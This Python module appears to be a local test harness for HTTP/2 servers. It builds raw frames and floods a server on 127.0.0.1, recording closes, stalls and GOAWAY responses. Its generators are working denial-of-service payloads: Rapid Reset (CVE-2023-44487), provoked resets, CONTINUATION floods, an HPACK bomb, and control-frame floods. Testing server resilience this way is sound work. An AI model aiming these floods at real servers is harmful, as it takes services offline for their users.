"""Raw HTTP/2 frames (RFC 9113), lawful or not, and a peer that sends them without manners."""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Section 4.1."""
    return struct.pack(">BHBBI", len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A field that enters no table, its strings not coded (RFC 7541, section 6.2.2); each below 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def block(path: str, method: str = "GET", *fields: tuple[str, str]) -> bytes:
    """A request's fields; the same bytes for every stream."""
    head = [(":method", method), (":scheme", "http"), (":authority", "bench"), (":path", path), *fields]
    return b"".join(literal(*field) for field in head)


def opening(window: int = 65535) -> bytes:
    """Preface and SETTINGS of a client whose streams have this window."""
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)) + frame(SETTINGS, 1, 0)


def window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


class Frames:
    """Splits what comes into frames. A payload that nobody wants is not kept."""

    def __init__(self) -> None:
        self.pending = bytearray()

    def feed(self, received: bytes) -> Iterator[tuple[int, int, int, bytes]]:
        """(type, flags, stream, payload) of each whole frame."""
        self.pending += received
        at = 0
        while len(self.pending) - at >= 9:
            high, low, kind, flags, stream = struct.unpack_from(">BHBBI", self.pending, at)
            length = (high << 16) + low
            if len(self.pending) - at < 9 + length:
                break
            yield kind, flags, stream & 0x7FFFFFFF, bytes(self.pending[at + 9 : at + 9 + length])
            at += 9 + length
        del self.pending[:at]


@dataclass(slots=True)
class Outcome:
    """What became of a flood. `last_stream`: of the peer's GOAWAY, 0 without one."""

    sent: int = 0  # bytes
    closed: bool = False
    stalled: bool = False  # the peer reads no more, and leaves it at that
    goaway: bool = False
    error: int = 0
    last_stream: int = 0
    resets: int = 0  # RST_STREAM frames of the peer


class Attacker:
    """A connection that sends all that it is given. With `deaf` it reads nothing before all is sent."""

    def __init__(self, port: int, *, deaf: bool = False, patience: float = 3.0) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), 10)
        self.socket.setblocking(False)
        self.deaf = deaf
        self.patience = patience
        self.frames = Frames()
        self.outcome = Outcome()

    def close(self) -> None:
        self.socket.close()

    def listen(self) -> None:
        """Reads what is there."""
        found = self.outcome
        try:
            received = self.socket.recv(1 << 18)
        except BlockingIOError:
            return
        except OSError:
            received = b""
        if not received:
            found.closed = True
        for kind, _, _, payload in self.frames.feed(received):
            if kind == GOAWAY:
                found.goaway = True
                found.last_stream, found.error = struct.unpack(">II", payload[:8])
            found.resets += kind == RST_STREAM

    def flood(self, chunks: Iterable[bytes]) -> Outcome:
        """Sends until all is sent, the peer closes or it has read nothing for `patience` seconds; then listens for as
        long whether it closes."""
        found = self.outcome
        for chunk in chunks:
            if not self.push(chunk):
                break
        until = time.monotonic() + self.patience
        while not found.closed and time.monotonic() < until:
            if select.select([self.socket], [], [], 0.05)[0]:
                self.listen()
        return found

    def push(self, chunk: bytes) -> bool:
        """False when there is no point in going on."""
        found, view = self.outcome, memoryview(chunk)
        until = time.monotonic() + self.patience
        while view:
            readable, writable, _ = select.select([] if self.deaf else [self.socket], [self.socket], [], 0.05)
            if readable:
                self.listen()
            if found.closed:
                return False
            if writable:
                try:
                    sent = self.socket.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.listen()
                    found.closed = True
                    return False
                found.sent += sent
                view = view[sent:]
                until = time.monotonic() + self.patience
            elif time.monotonic() > until:
                found.stalled = True
                return False
        return True


def batches(pieces: Iterable[bytes], size: int = 1 << 16) -> Iterator[bytes]:
    """The same bytes in chunks of about `size`."""
    gathered = bytearray()
    for piece in pieces:
        gathered += piece
        if len(gathered) >= size:
            yield bytes(gathered)
            gathered.clear()
    if gathered:
        yield bytes(gathered)


def numbers(count: int) -> range:
    """The first `count` streams of a client."""
    return range(1, 2 * count, 2)


def rapid_reset(count: int) -> Iterator[bytes]:
    """CVE-2023-44487."""
    head, reset = block("/64"), struct.pack(">I", CANCEL)
    for stream in numbers(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + frame(RST_STREAM, 0, stream, reset)


def provoked_resets(count: int) -> Iterator[bytes]:
    """The server is made to reset each stream by an increment of 0 (section 6.9); CVE-2025-8671."""
    head = block("/64", "POST")
    for stream in numbers(count):
        yield frame(HEADERS, END_HEADERS, stream, head) + window_update(stream, 0)


def continuation(count: int) -> Iterator[bytes]:
    """A header block that never ends, 1 KiB a frame; CVE-2024-24549 and its like."""
    yield frame(HEADERS, 0, 1, block("/64"))
    more = frame(CONTINUATION, 0, 1, literal("x-more", "c" * 60) * 14)
    for _ in range(count):
        yield more


def settings(count: int) -> Iterator[bytes]:
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))
    for _ in range(count):
        yield one


def ping(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(PING, 0, 0, b"flooding")


def empty_data(count: int) -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, block("/64", "POST"))
    for _ in range(count):
        yield frame(DATA, 0, 1)


def priority(count: int) -> Iterator[bytes]:
    """Deprecated frames (section 5.3.2), a stream each."""
    for stream in numbers(count):
        yield frame(PRIORITY, 0, stream + 2, struct.pack(">IB", 1, 16))


def window_updates(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield window_update(0, 1)


def unknown(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(0xBE, 0, 0, b"x")


def hpack_bomb(count: int) -> Iterator[bytes]:
    """An entry of 3,000 bytes, then 8,000 references of one byte to it for each stream: 24 MB of fields."""
    value = b"v" * 3000  # a length of two bytes: 127 + (3000 - 127), RFC 7541 section 5.1
    entry = b"\x40\x01a" + b"\x7f" + bytes([(3000 - 127) & 0x7F | 0x80, (3000 - 127) >> 7]) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block("/64") + entry)
    bomb = block("/64") + b"\xbe" * 8000
    for stream in numbers(count)[1:]:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)
